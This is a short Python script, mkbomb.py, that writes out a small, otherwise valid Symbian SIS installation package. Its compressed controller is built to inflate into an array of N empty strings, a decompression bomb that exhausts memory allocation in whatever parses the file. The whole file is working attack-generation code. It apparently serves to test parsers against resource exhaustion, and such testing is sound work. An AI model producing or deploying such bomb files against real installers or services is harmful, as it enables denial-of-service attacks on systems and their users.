#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
# mkbomb.py OUT N: a small, otherwise valid SIS package whose zlib-compressed
# controller inflates to a SISInfo names array of N empty strings (a
# decompression bomb aimed at allocation, not at bytes).
import struct, zlib, sys
def f(t, v): return struct.pack('<II', t, len(v)) + v + b'\0' * ((4 - len(v) % 4) % 4)
n = int(sys.argv[2])
names = struct.pack('<I', 1) + b'\0\0\0\0' * n          # Array<SISString>, n empty elements
info = f(9, struct.pack('<I', 0xE0000001)) + f(1, b'') + f(2, names) + f(2, struct.pack('<I', 1)) \
    + f(4, struct.pack('<iii', 1, 0, 0)) + f(8, f(6, struct.pack('<HBB', 2008, 0, 1)) + f(7, b'\0\0\0')) + b'\0\0'
ctl = f(13, f(14, info) + f(16, f(2, struct.pack('<I', 33))) + f(15, f(2, struct.pack('<I', 11) + struct.pack('<II', 4, 1)))
          + f(17, f(2, struct.pack('<I', 18)) + f(2, struct.pack('<I', 18))) + f(19, f(2, struct.pack('<I', 20)))
          + f(28, f(2, struct.pack('<I', 24)) + f(2, struct.pack('<I', 13)) + f(2, struct.pack('<I', 26)))
          + f(40, struct.pack('<I', 0)))
comp = f(3, struct.pack('<IQ', 1, len(ctl)) + zlib.compress(ctl, 9))
data = f(30, f(2, struct.pack('<I', 31)))
contents = f(12, comp + data)
def crc16(b):
    c = 0
    for x in b:
        c ^= x << 8
        for _ in range(8): c = ((c << 1) ^ 0x1021) & 0xffff if c & 0x8000 else (c << 1) & 0xffff
    return c
u = struct.pack('<III', 0x10201A7A, 0, 0xE0000001)
ck = (crc16(u[1::2]) << 16) | crc16(u[0::2])
open(sys.argv[1], 'wb').write(u + struct.pack('<I', ck) + contents)
